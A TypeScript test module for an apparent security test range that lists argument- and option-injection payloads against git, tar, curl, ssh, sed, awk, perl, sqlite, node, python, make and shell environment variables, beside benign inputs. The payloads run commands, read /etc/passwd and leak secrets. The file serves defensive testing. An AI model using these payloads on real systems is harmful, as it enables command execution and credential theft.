// Tools of the studio: options, expressions and environments of programs.
import type { RangeCase, RangePlaces } from '../case.ts';
import { post, shelf } from './shop.ts';

export function studioToolCases(places: RangePlaces): RangeCase[] {
  const argv = shelf('argv-injection', places, 'studio');
  const making = (name: string, path: string, make: (file: string) => Record<string, unknown>): void => {
    const file = `${places.outside}/${places.token()}`;
    argv.attack(name, post(`/tools/${path}`, make(file)), { kind: 'file', path: file });
  };
  const leaking = (name: string, path: string, fields: Record<string, unknown>, holds = places.secret): void =>
    argv.attack(name, post(`/tools/${path}`, fields), { kind: 'answer', holds });
  const secret = `${places.outside}/secret.txt`;

  making('log --output', 'git/log', (file) => ({ ref: `--output=${file}` }));
  making('diff --output', 'git/diff', (file) => ({ from: `--output=${file}` }));
  leaking('diff --no-index', 'git/diff', { from: '--no-index', to: '/etc/passwd' }, 'root:');
  making('grep -O', 'git/grep', (file) => ({ words: `-Otouch ${file};` }));
  making('grep --open-files-in-pager', 'git/grep', (file) => ({ words: `--open-files-in-pager=touch ${file};` }));
  making('an alias', 'git/config', (file) => ({ key: 'core.fsmonitor', value: `touch ${file};` }));
  making('core.sshCommand', 'git/settings', (file) => ({ settings: [`core.sshCommand=touch ${file};`] }));
  making('core.gitProxy', 'git/settings', (file) => ({
    settings: ['core.sshCommand=sh', `core.sshCommand=sh -c 'touch ${file}' x`],
  }));
  making('fetch --upload-pack', 'git/fetch', (file) => ({ remote: `--upload-pack=touch ${file}` }));
  making('fetch ext', 'git/fetch', (file) => ({ remote: `ext::sh -c touch% ${file}` }));
  making('archive --output', 'git/archive', (file) => ({ options: [`--output=${file}`] }));
  making('archive --remote --exec', 'git/archive', (file) => ({
    options: ['--remote=.', `--exec=touch ${file};git-upload-archive`],
  }));
  making('rebase --exec', 'git/rebase', (file) => ({ options: ['--root', `--exec=touch ${file}`] }));
  making('rebase -x', 'git/rebase', (file) => ({ options: ['--force-rebase', '--root', '-x', `touch ${file}`] }));
  making('simple-git, raw', 'git/simple', (file) => ({ command: ['log', `--output=${file}`] }));
  making('simple-git, an alias', 'git/simple', (file) => ({
    command: ['grep', '--no-index', `-Otouch ${file};`, 'alpha', 'public'],
  }));
  making('an external diff', 'git/env', (file) => ({ diff: `touch ${file};` }));
  making('execa', 'git/execa', (file) => ({ args: ['-c', `alias.x=!touch ${file}`, 'x'] }));
  making('execa, --exec-path', 'git/execa', (file) => ({ args: ['-c', `core.pager=touch ${file};`, '-p', 'log'] }));
  making('find -exec', 'find', (file) => ({ filters: ['-exec', 'touch', file, ';'] }));
  making('find -fprintf', 'find', (file) => ({ filters: ['-fprintf', file, '%p'] }));
  making('find -fls', 'find', (file) => ({ filters: ['-fls', file] }));
  leaking('find elsewhere', 'find', { filters: [places.outside] }, 'secret.txt');
  making('sed s///e', 'sed', (file) => ({ from: '^.*$', to: `touch ${file.replaceAll('/', '\\/')}/e;s/x/x` }));
  making('sed w', 'sed', (file) => ({ from: 'a', to: `b/w ${file}\ns/a/b` }));
  making('sed e', 'sed-script', (file) => ({ script: `1e touch ${file}` }));
  making('sed w', 'sed-script', (file) => ({ script: `1,$ w ${file}` }));
  leaking('sed r', 'sed-script', { script: `1r ${secret}` });
  making('awk system', 'awk', (file) => ({ words: `a/ {system("touch ${file}")} /b` }));
  making('awk print >', 'awk', (file) => ({ words: `./ { print > "${file}" } /` }));
  making('awk pipe', 'awk', (file) => ({ words: `./ { print | "cat > ${file}" } /` }));
  making('awk getline', 'awk', (file) => ({ words: `./ { "touch ${file}" | getline } /` }));
  making('awk, a column', 'awk-column', (file) => ({ column: `1; system("touch ${file}")` }));
  leaking('awk ENVIRON', 'awk-column', { column: '1 ENVIRON["RANGE_SECRET"]' });
  leaking('awk reads', 'awk-column', { column: `1; while ((getline line < "${secret}") > 0) print line` });
  making('perl pattern', 'perl', (file) => ({ words: `x/;system("touch ${file}");/x` }));
  making('perl code in a pattern', 'perl', (file) => ({
    words: `(?{system("touch ${file.replaceAll('/', '\\/')}")})`,
  }));
  making('perl array in a pattern', 'perl', (file) => ({
    words: `@{[system("touch ${file.replaceAll('/', '\\/')}")]}`,
  }));
  making('perl -e', 'perl-eval', (file) => ({ sum: `1; system("touch ${file}")` }));
  making('perl backticks', 'perl-eval', (file) => ({ sum: `\`touch ${file}\`` }));
  making('perl open', 'perl-eval', (file) => ({ sum: `open(F, ">${file}")` }));
  leaking('perl %ENV', 'perl-eval', { sum: '$ENV{RANGE_SECRET}' });
  leaking('jq $ENV', 'jq', { field: 'name, $ENV.RANGE_SECRET' });
  leaking('jq env', 'jq', { field: 'name|env.RANGE_SECRET' });
  making('sort -o', 'sort', (file) => ({ options: ['-o', file] }));
  making('sort --output', 'sort', (file) => ({ options: [`--output=${file}`] }));
  leaking('sort, a second file', 'sort', { options: [secret] });
  making('split --filter', 'split', (file) => ({ options: [`--filter=touch ${file}`] }));
  leaking('date -f', 'date', { format: ['-f', '/etc/passwd'] }, 'root:');
  leaking('date --file', 'date', { format: ['--file=/etc/passwd'] }, 'root:');
  leaking('wc --files0-from', 'wc', { file: `--files0-from=/etc/passwd` }, 'root:');
  leaking('diff --from-file', 'diff', { options: ['--from-file=/etc/passwd'] }, 'root:');
  leaking('envsubst', 'envsubst', { text: 'Hello $RANGE_SECRET' });
  leaking('envsubst, braces', 'envsubst', { text: 'Hello ${RANGE_SECRET}' });
  making('ed !', 'ed', (file) => ({ line: `!touch ${file}` }));
  making('ed w', 'ed', (file) => ({ line: `w ${file}` }));
  making('vim !', 'vim', (file) => ({ line: `!touch ${file}` }));
  making('vim call system', 'vim', (file) => ({ line: `call system('touch ${file}')` }));
  making('vim write', 'vim', (file) => ({ line: `write ${file}` }));
  making('gdb shell', 'gdb', (file) => ({ line: `shell touch ${file}` }));
  making('gdb !', 'gdb', (file) => ({ line: `!touch ${file}` }));
  making('tclsh exec', 'tclsh', (file) => ({ sum: `[exec touch ${file}]` }));
  making('tclsh, the end', 'tclsh', (file) => ({ sum: `1}]; exec touch ${file}; puts [expr {1` }));
  making('man -P', 'man', (file) => ({ page: `--pager=touch ${file};` }));

  making('tar', 'tar', (file) => ({ files: ['--checkpoint=1', `--checkpoint-action=exec=touch ${file}`, 'public'] }));
  making('tar -I', 'tar', (file) => ({ files: [`-Itouch ${file};`, 'public'] }));
  making('tar --use-compress-program', 'tar-options', (file) => ({
    options: ['--use-compress-program', `sh -c 'touch ${file}'`],
  }));
  making('tar --rmt-command', 'tar-options', (file) => ({ options: [`--info-script=touch ${file}`, '-L', '1', '-M'] }));
  making('tar --index-file', 'tar-options', (file) => ({ options: ['-v', `--index-file=${file}`] }));
  making('zip -TT', 'zip', (file) => ({ files: ['public', '-T', '-TT', `touch ${file};true`] }));
  making('curl -o', 'curl', (file) => ({ options: ['-o', file] }));
  making('curl -o, joined', 'curl', (file) => ({ options: [`-o${file}`] }));
  making('curl --dump-header', 'curl', (file) => ({ options: ['--dump-header', file] }));
  leaking('curl -d @', 'curl', { options: ['-d', `@${secret}`] });
  leaking('curl --data-binary @', 'curl', {
    options: ['-H', 'content-type: text/plain', '--data-binary', `@${secret}`],
  });
  leaking('curl -K', 'curl', { options: ['-K', `${places.outside}/curlrc`] }, 'root:');
  leaking('curl, another address', 'curl', { options: ['file:///etc/passwd'] }, 'root:');
  leaking('curl -d @, the message', 'curl-data', { message: `@${secret}` });
  leaking('curl --data-urlencode @', 'curl-form', { message: `@${secret}` });
  leaking('curl -H @', 'curl-header', { header: `@${places.outside}/headers.txt` }, 'from-the-file');
  making('wget -O', 'wget', (file) => ({ options: ['-O', file] }));
  making('wget --output-document', 'wget', (file) => ({ options: [`--output-document=${file}`] }));
  making('wget --use-askpass', 'wget', (file) => ({ options: [`--output-file=${file}`] }));
  leaking('wget --post-file', 'wget', { options: ['--header=content-type: text/plain', `--post-file=${secret}`] });
  making('ssh -oProxyCommand', 'ssh', (file) => ({ host: `-oProxyCommand=touch ${file}` }));
  making('ssh -o', 'ssh-option', (file) => ({ option: `ProxyCommand=touch ${file}` }));
  making('ssh -o, with a blank', 'ssh-option', (file) => ({ option: `proxycommand touch ${file}` }));
  making('ssh -o, a local command', 'ssh-option', (file) => ({ option: `KnownHostsCommand=/usr/bin/touch ${file}` }));
  making('scp -S', 'scp', (file) => ({ from: `-oProxyCommand=touch ${file}` }));
  making('rsync -e', 'rsync', (file) => ({ options: ['-e', `sh -c 'touch ${file}'`] }));
  making('rsync --rsh', 'rsync', (file) => ({ options: [`--rsh=sh -c 'touch ${file}'`] }));
  making('rsync --log-file', 'rsync', (file) => ({ options: [`--log-file=${file}`, '-n'] }));
  making('sqlite .shell', 'sqlite', (file) => ({ commands: `.shell touch ${file}` }));
  making('sqlite .output', 'sqlite', (file) => ({ commands: `select 1;\n.once ${file}\nselect 1;` }));
  making('sqlite, a second line', 'sqlite', (file) => ({ commands: `select 1;\n.system touch ${file}` }));
  making('sqlite writefile', 'sqlite', (file) => ({ commands: `select writefile('${file}', 'x');` }));
  making('sqlite attach', 'sqlite', (file) => ({ commands: `attach '${file}' as x; create table x.t(a);` }));
  making('sqlite -cmd, a pipe', 'sqlite-arg', (file) => ({ name: `x\n.shell touch ${file}` }));

  making('node -e', 'node', (file) => ({ text: `'+require('fs').writeFileSync('${file}','')+'` }));
  making('node --eval', 'node-options', (file) => ({ options: [`--eval=require('fs').writeFileSync('${file}','')`] }));
  making('node -r', 'node-options', (file) => ({
    options: ['--import', `data:text/javascript,import fs from 'node:fs';fs.writeFileSync('${file}','')`],
  }));
  making('node, diagnostics', 'node-options', (file) => ({
    options: ['--trace-event-categories=v8', `--trace-event-file-pattern=${file}`],
  }));
  making('python -c', 'python', (file) => ({ sum: `open('${file}','w')` }));
  making('python -c, __import__', 'python', (file) => ({ sum: `__import__('os').system('touch ${file}')` }));
  making('python -c, the end', 'python', (file) => ({ sum: `1);open('${file}','w');print(1` }));
  making('python on its input', 'python-input', (file) => ({ sum: `__import__('os').system('touch ${file}')` }));
  leaking('python, the environment', 'python', { sum: `__import__('os').environ['RANGE_SECRET']` });
  making('make, a variable', 'make', (file) => ({ name: `x"; touch ${file}; echo "` }));
  making('make, $(shell)', 'make', (file) => ({ name: `$(shell touch ${file})` }));
  making('make, a substitution', 'make', (file) => ({ name: `\`touch ${file}\`` }));
  making('make --eval', 'make-target', (file) => ({ target: `--eval=$(shell touch ${file})` }));
  making('make, an assignment', 'make-target', (file) => ({ target: `SHELL=$(shell touch ${file})` }));
  making('env -S', 'env', (file) => ({ settings: [`-Stouch ${file}`] }));
  making('env, a program', 'env', (file) => ({ settings: ['touch', file] }));
  making('env BASH_ENV', 'env', (file) => ({ settings: ['-i', 'sh', '-c', `touch ${file}`] }));
  making('timeout', 'timeout', (file) => ({ args: ['touch', file] }));
  making('timeout, a shell', 'timeout', (file) => ({ args: ['sh', '-c', `touch ${file}`] }));
  making('busybox', 'busybox', (file) => ({ args: ['touch', file] }));
  making('busybox sh', 'busybox', (file) => ({ args: ['sh', '-c', `touch ${file}`] }));
  making('xargs', 'xargs', (file) => ({ args: ['touch', file] }));
  making('xargs sh', 'xargs', (file) => ({ args: ['sh', '-c', `touch ${file}`] }));
  making('flock -c', 'flock', (file) => ({ args: ['-c', `touch ${file}`] }));
  making('flock', 'flock', (file) => ({ args: ['touch', file] }));
  making('fork, execArgv', 'fork', (file) => ({ flags: ['-e', `require('fs').writeFileSync('${file}','')`] }));
  making('fork, execArgv --import', 'fork', (file) => ({
    flags: [`--import=data:text/javascript,import fs from 'node:fs';fs.writeFileSync('${file}','')`],
  }));
  making('NODE_OPTIONS', 'job-env', (file) => ({
    env: {
      NODE_OPTIONS: `--import=data:text/javascript,import+fs+from+'node:fs';fs.writeFileSync('${file}','')`.replaceAll(
        '+',
        '%20',
      ),
    },
  }));
  making('BASH_ENV', 'shell-env', (file) => ({ env: { BASH_ENV: `$(touch ${file})` } }));
  making('BASH_FUNC', 'shell-env', (file) => ({ env: { 'BASH_FUNC_echo%%': `() { touch ${file}; }` } }));
  making('GIT_SSH_COMMAND', 'git-env', (file) => ({ env: { GIT_SSH_COMMAND: `touch ${file};` } }));
  making('GIT_TRACE', 'git-env', (file) => ({ env: { GIT_TRACE: file } }));
  making('GIT_CONFIG', 'git-env', (file) => ({
    env: { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'core.sshCommand', GIT_CONFIG_VALUE_0: `touch ${file};` },
  }));
  making('PERL5OPT', 'perl-env', (file) => ({
    env: { PERL5OPT: `-Mbase;system(touch,q(${file}))`.replace('base;', 'strict;') },
  }));
  making('PERL5DB', 'perl-env', (file) => ({
    env: { PERL5OPT: '-d', PERL5DB: `BEGIN{open(F,q(>${file}))}sub DB::DB{}` },
  }));
  making('a shell among the options', 'options', (file) => ({
    options: { shell: '/usr/bin/python3', env: { x: `${file}` }, argv0: 'x' },
  }));
  making('the shell and the environment', 'spawn-options', (file) => ({
    options: { shell: '/bin/bash', env: { 'BASH_FUNC_echo%%': `() { touch ${file}; }` } },
  }));
  making('the environment of a shell', 'options', (file) => ({
    options: { shell: 'bash', env: { BASH_ENV: `$(touch ${file})`, PATH: '/usr/bin:/bin' } },
  }));
  making('the program', 'program', (file) => ({ program: 'touch', args: [file] }));
  making('the program, a shell', 'program', (file) => ({ program: '/bin/sh', args: ['-c', `touch ${file}`] }));
  making('the program, env', 'program', (file) => ({ program: 'env', args: [`-S`, `touch ${file}`] }));

  const prose = [
    'alpha',
    'Fish & Chips; 50%',
    "O'Brien",
    '--help',
    '-rf',
    'a/b/c',
    'x|y',
    '$HOME',
    'a "b" c',
    '(a+b)*',
    'system("x")',
    '[a-z]',
    '@ann thanks',
    '-5',
    '日本',
  ];
  for (const text of prose)
    argv.benign(
      text,
      post('/tools/safe/git/grep', { words: text }),
      post('/tools/safe/git/author', { name: text.replace('-', '~') }),
      post('/tools/safe/git/simple-log', { author: text }),
      post('/tools/safe/find', { name: text }),
      post('/tools/safe/grep', { words: text }),
      post('/tools/safe/awk', { words: text }),
      post('/tools/safe/awk-env', { words: text }),
      post('/tools/safe/perl', { words: text }),
      post('/tools/safe/jq', { field: text }),
      post('/tools/safe/envsubst', { text: `Hello ${text}, costs $5` }),
      post('/tools/safe/curl-data', { message: text }),
      post('/tools/safe/node', { text }),
      post('/tools/safe/node-argv', { text }),
      post('/tools/safe/python', { text }),
      post('/tools/safe/make', { name: text }),
      post('/tools/safe/preset', { preset: text }),
      post('/tools/safe/options', { name: text }),
      post('/tools/safe/convert', { size: '200x100', rotate: -90, title: text }),
    );
  for (const files of [
    ['a.txt'],
    ['public', 'uploads'],
    ['-rf', '--checkpoint-action=x'],
    ['with space.txt', "o'b.txt"],
  ])
    argv.benign(files.join(' '), post('/tools/safe/tar', { files }));
  for (const format of ['%Y-%m-%d', '%d.%m.%Y;', '%A "x"', '-%m', '$%Y'])
    argv.benign(
      format,
      post('/tools/safe/date', { format }),
      post('/tools/safe/git/format', { format: format.replaceAll('%', '%%') }),
    );
  for (const [path, fields] of [
    ['git/log', { ref: 'HEAD' }],
    ['git/log', { ref: 'HEAD~0' }],
    ['git/diff', { from: 'HEAD', to: 'HEAD' }],
    ['git/grep', { words: 'alpha' }],
    ['git/grep', { words: 'two words; and (more)' }],
    ['git/grep', { words: '-i' }],
    ['git/config', { key: 'user.name', value: 'Ann; and Bob' }],
    ['git/config', { key: 'color.ui', value: 'never' }],
    ['git/show', { file: 'a.txt' }],
    ['git/archive', { options: ['--format=tar'] }],
    ['git/archive', { options: ['--prefix=studio/'] }],
    ['git/simple', { command: ['log', '-1', '--format=%s'] }],
    ['git/simple', { command: ['status', '--short'] }],
    ['git/simple-log', { from: 'HEAD' }],
    ['git/execa', { args: ['rev-parse', '--is-inside-work-tree'] }],
    ['git/execa', { args: ['log', '--oneline', '-n', '3'] }],
    ['find', { filters: ['-type', 'f', '-name', '*.txt'] }],
    ['find', { filters: ['-maxdepth', '1', '-size', '-10k'] }],
    ['find', { filters: ['-mtime', '-5'] }],
    ['grep', { words: 'alpha' }],
    ['grep', { words: '-i' }],
    ['grep', { words: 'a; b' }],
    ['sed', { from: 'alpha', to: 'beta' }],
    ['sed', { from: '^a', to: '[&]' }],
    ['sed', { from: 'a.*', to: 'the end' }],
    ['sed-script', { script: 's/alpha/beta/g' }],
    ['sed-script', { script: '1d' }],
    ['sed-script', { script: '/beta/d' }],
    ['awk', { words: 'alpha' }],
    ['awk', { words: '^b' }],
    ['awk', { words: 'two words' }],
    ['awk-column', { column: '1' }],
    ['awk-column', { column: '1, $2' }],
    ['awk-column', { column: 'NF' }],
    ['perl', { words: 'alpha' }],
    ['perl', { words: '^a|b$' }],
    ['perl', { words: 'two words' }],
    ['perl-eval', { sum: '1+2' }],
    ['perl-eval', { sum: '12' }],
    ['jq', { field: 'name' }],
    ['jq', { field: 'name, .size' }],
    ['jq', { field: 'size + 1' }],
    ['sort', { options: ['-r'] }],
    ['sort', { options: ['-k', '1', '-n', '-u'] }],
    ['split', { options: ['-l', '1'] }],
    ['date', { format: ['-u', '-d', '2020-01-02', '+%F'] }],
    ['wc', { file: 'a.txt' }],
    ['wc', { file: 'with space.txt' }],
    ['diff', { options: ['-u', '--label', 'old; new'] }],
    ['envsubst', { text: 'Hello Ann, 5 dollars' }],
    ['envsubst', { text: 'Hello $NOBODY_SETS_THIS' }],
    ['ed', { line: ',p' }],
    ['ed', { line: '1p' }],
    ['vim', { line: 'set number' }],
    ['gdb', { line: 'print 1+2' }],
    ['bc', { sum: '1+2' }],
    ['bc', { sum: '(3.5-1)*2' }],
    ['tclsh', { sum: '1+2' }],
    ['tclsh', { sum: 'sqrt(4)' }],
    ['man', { page: 'ls' }],
    ['tar', { files: ['public'] }],
    ['tar', { files: ['public/a.txt', 'public/with space.txt'] }],
    ['tar-options', { options: ['-z'] }],
    ['tar-options', { options: ['--exclude', '*.log'] }],
    ['zip', { files: ['public'] }],
    ['zip', { files: ['public', '-x', '*.log'] }],
    ['curl', { options: [] }],
    ['curl', { options: ['--compressed', '-L'] }],
    ['curl', { options: ['-A', 'studio; 2'] }],
    ['curl-data', { message: 'hello=world; and more' }],
    ['curl-data', { message: 'mail=ann@example.com' }],
    ['curl-form', { message: '=hello & bye' }],
    ['curl-form', { message: '=ann@example.com' }],
    ['curl-header', { header: 'x-color: blue; red' }],
    ['wget', { options: ['--header=accept: text/plain'] }],
    ['ssh-option', { option: 'ConnectTimeout=3' }],
    ['ssh-option', { option: 'Compression yes' }],
    ['sqlite', { commands: 'select 1 + 2;' }],
    ['sqlite', { commands: "select 'a; b', 5 > 3;" }],
    ['sqlite', { commands: ".mode csv\nselect 'a', 'b';" }],
    ['sqlite-arg', { name: 'hello world' }],
    ['node', { text: 'hello world' }],
    ['node', { text: 'a (b); c' }],
    ['node-options', { options: ['--max-old-space-size=256'] }],
    ['python', { sum: '1+2' }],
    ['python', { sum: '(3.5-1)*2' }],
    ['python-input', { sum: '2**8' }],
    ['make', { name: 'release 2' }],
    ['make', { name: "O'Brien & Sons" }],
    ['make-target', { target: 'quiet' }],
    ['env', { settings: ['TZ=UTC'] }],
    ['env', { settings: ['LANG=de_DE.UTF-8', 'TZ=Europe/Berlin'] }],
    ['fork', { flags: ['--max-old-space-size=64'] }],
    ['fork-args', { args: ['-e', 'process.exit(1)'] }],
    ['fork-args', { args: ['--title', 'a; b', '$(x)'] }],
    ['job-env', { env: { TITLE: 'a; b', MODE: 'fast' } }],
    ['shell-env', { env: { TITLE: '$(date)', NAME: "O'Brien" } }],
    ['git-env', { env: { GIT_AUTHOR_NAME: 'Ann; Bob', LANG: 'C' } }],
    ['perl-env', { env: { TZ: 'UTC' } }],
    ['options', { options: { env: { TITLE: 'x; y' } } }],
    ['spawn-options', { options: { env: { TITLE: '$(x)' } } }],
  ] as const)
    argv.benign(JSON.stringify(fields), post(`/tools/${path}`, fields));
  return argv.cases;
}
